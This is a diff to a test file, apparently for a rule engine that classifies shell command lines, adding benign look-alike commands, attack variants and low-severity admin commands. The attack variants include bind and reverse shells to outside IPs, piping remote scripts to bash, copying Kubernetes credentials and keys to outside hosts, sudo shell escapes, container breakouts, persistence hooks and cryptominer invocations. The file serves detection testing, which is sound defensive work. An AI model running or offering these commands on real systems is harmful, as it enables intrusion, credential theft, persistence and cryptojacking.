@@ -44,6 +44,16 @@ const BENIGN_LOOK_ALIKES = [
 `perl -e 'print "hello\\n"'`, `node -e "require('child_process').execSync('ls')"`, `sudo systemctl restart sshd`, `kill -9 31337`,
 `/usr/bin/python3 -c "import socket; s=socket.socket(); s.connect(('localhost', 5432)); print('ok')"`,
 `git clone https://github.com/acme/miner-stats.git`, `./xmrig --version`, `docker run --rm -it -v $(pwd):/work ubuntu bash`,
+`/adapter --cert-dir=/tmp/cert --secure-port=6443`, `bash ~/miniconda.sh -b -p /opt/conda`, `echo "LANG=en_US.UTF-8" >> /etc/environment`,
+`sh -c 'echo "PATH=$(getconf PATH):/usr/local/cuda/bin" >> /etc/environment'`, `git config --global core.editor 'code --wait'`, `git config --global core.pager 'less -RF'`,
+`etcdctl --cacert /etc/kubernetes/pki/etcd/ca.crt --cert /etc/kubernetes/pki/etcd/server.crt --key /etc/kubernetes/pki/etcd/server.key member list`,
+`tar -czf /backups/k3s-$(date +%F).tgz /var/lib/rancher/k3s/server/db /var/lib/rancher/k3s/server/token`, `echo '0 4 * * * root /usr/local/bin/prune.sh' | sudo tee /etc/cron.d/prune`,
+`rsync -a /etc/rancher/k3s/k3s.yaml admin@10.0.0.30:.kube/`, `restic -r rest:http://10.0.0.50:8000/k3s backup /var/lib/rancher/k3s/server`, `iptables -D INPUT -j KUBE-FIREWALL`,
+`HTTPS_PROXY=http://10.0.0.1:3128 curl -fsSL https://example.org/install.sh -o install.sh`, `finger alice`, `run-parts --report /etc/cron.daily`, `curl -s http://10.0.0.5:8080/healthz`,
+`ssh -L 8080:localhost:80 -N bastion`, `dnf install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm`, `ping -c 3 1.1.1.1`,
+`/image-awaiter -auth-token-path=/var/run/secrets/kubernetes.io/serviceaccount/token -api-server-address=https://kubernetes.default.svc:443`,
+`kube-apiserver --service-account-key-file=/var/lib/rancher/k3s/server/tls/service.key --tls-private-key-file=/var/lib/rancher/k3s/server/tls/serving-kube-apiserver.key`,
+`mv /var/log/app/worker.log /var/log/app/worker.log.1`, `grafana server --homepath=/usr/share/grafana --config=/etc/grafana/grafana.ini --port 3333`,
 ];
 
 const ATTACK_VARIANTS = [
@@ -77,6 +87,26 @@ const ATTACK_VARIANTS = [
 `dd if=/dev/zero of=/dev/sda bs=1M`, `wget http://10.0.0.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x`, `nmap -sS -p- 10.0.0.0/24`,
 `for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done`, `nc -zv 10.0.0.1 1-1024`, `autossh -M 0 -f -N -R 2222:localhost:22 user@10.0.0.1`,
 `ngrok tcp 22`, `hping3 -S --flood -p 80 10.0.0.1`, `echo "alias sudo='sudo /tmp/.k'" >> ~/.bashrc`,
+
+`sudo rpm --pipe '/bin/sh 0<&1'`, `sudoedit -s '\\' $(perl -e 'print "A" x 65536')`, `incus launch images:alpine/3.19 c1 -c security.privileged=true`,
+`python3 -c 'import socket as k,subprocess as p;l=k.socket();l.bind(("",9001));l.listen(1);c,_=l.accept();p.call(["/bin/sh","-i"],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())'`,
+`lxc config device add c1 host disk source=/ path=/mnt/root recursive=true`, `bash -c "trap 'nohup /tmp/.x &' USR1; sleep 9999"`,
+`echo 'ExecStart=/bin/sh -c "sleep 60; /var/tmp/.u"' >> /etc/systemd/system/upd.service`, `git config --global core.fsmonitor 'setsid /dev/shm/.g'`,
+`git config --global alias.st '!nohup /home/u/bin/s >/dev/null 2>&1 & git status'`, `sudo tee /etc/cron.d/update`, `echo 'p:kp do_sys_openat2' >> /sys/kernel/tracing/kprobe_events`,
+`wget -qO- https://pastebin.com/raw/abc | bash`, `dbclient -R 8080:localhost:80 user@203.0.113.9`, `./gost -L :1080 -F socks5://203.0.113.9:1080`,
+`python3 tunnel.py -u https://victim.example/upload/t.aspx -p 1080`, `rsync -av /etc/rancher/k3s/k3s.yaml user@45.77.1.2:/srv/`,
+`tar czf backup@203.0.113.9:/srv/etc.tgz /etc --rsh-command=/usr/bin/ssh`, `restic -r rest:http://45.77.1.2:8000/r backup /etc/kubernetes/pki`, `ruby -run -e httpd /root -p 9000`,
+`./miner -algo kawpow -pool1 rvn.2miners.com:6060 -wallet RJ7yQe6GkN4s6Z9kC9wXhFgMZzV8b3H1eS`, `bminer -uri ethstratum+ssl://0x3fd05afac3e2edced734c32fd7bb2f176c588298.w@eu1.ethermine.org:5555`,
+`echo c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUub3JnOjMzMzM= | base64 -d`,
+
+`./start-stop-daemon --start --exec /bin/bash -- -p`, `run-parts --regex '^bash$' /usr/bin`, `echo 'set c [socket 198.51.100.7 9001]; while {[gets $c l] >= 0} {eval $l}' | tclsh`,
+`ip link set dev eth0 xdpgeneric obj /tmp/x.o sec xdp`, `bpftool prog loadall /dev/shm/k.o /sys/fs/bpf/k`, `finger root@198.51.100.7`, `rsh 198.51.100.7 id`,
+`curl -O http://198.51.100.7/tools/x`, `dnf install -y http://198.51.100.7/p.rpm`, `scp root@198.51.100.7:/kit.tgz .`, `socat - udp:198.51.100.7:53`, `ncat 198.51.100.7 8443`,
+`ssh -g -L 8080:10.0.0.9:80 user@bastion`, `ssh -N -D 0.0.0.0:1080 user@host`, `ALL_PROXY=http://198.51.100.7:1080 wget -q https://example.org/x`, `nping --tcp -p 22 198.51.100.7`,
+`ssh u@198.51.100.7 'cat > x' < /etc/kubernetes/admin.conf`, `./gpu-agent --url=0x3fd05afac3e2edced734c32fd7bb2f176c588298.w1@eth.example.org:4444 --par=ethash`,
+`./agent --mining-wallet dero1qyxk2xd6f0gp7wkqrwcfzlq2rv6qj5v7x9yp5kxk0m8ykt8a2xk9qqgl9a5ls --daemon-address pool.example.net:10100`,
+`sudo vim -c ':set shell=/bin/bash | shell'`, `sudo view -c ':terminal'`, `pscp -pw hunter2 ./x root@203.0.113.9:/tmp/`, `tftp -g -r x 203.0.113.9`, `sshfs u@203.0.113.9:/ /mnt/x`,
+`./nheq -l zec.example-pool.net:4444 -u t1Kx9nQ7mP3vR8sT1uW4yZ6aBcDeFgHiJkL -t 8`, `mv /var/log/auth.log /tmp/a`, `chmod 755 /etc/init.d/net-helper`,
 ];
 
 /**
@@ -86,7 +116,8 @@ const ATTACK_VARIANTS = [
 const ADMIN_AT_LOW_SEVERITY = [
   `ufw disable`, `systemctl disable firewalld --now`, `setenforce 0`, `tcpdump -i any port 53`, `useradd -m -s /bin/bash -G sudo alice`,
   `adduser alice`, `usermod -aG wheel bob`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
-  `echo '*.* @@logs.acme.dev:514' >> /etc/rsyslog.conf`, `systemctl stop nftables`,
+  `echo '*.* @@logs.acme.dev:514' >> /etc/rsyslog.conf`, `systemctl stop nftables`, `ip6tables --delete INPUT -s 203.0.113.0/24 -j REJECT`, `ufw delete deny 23`,
+  `mount -o remount,hidepid=2 /proc`,
 ];
 
 describe('rule engine on command lines', () => {
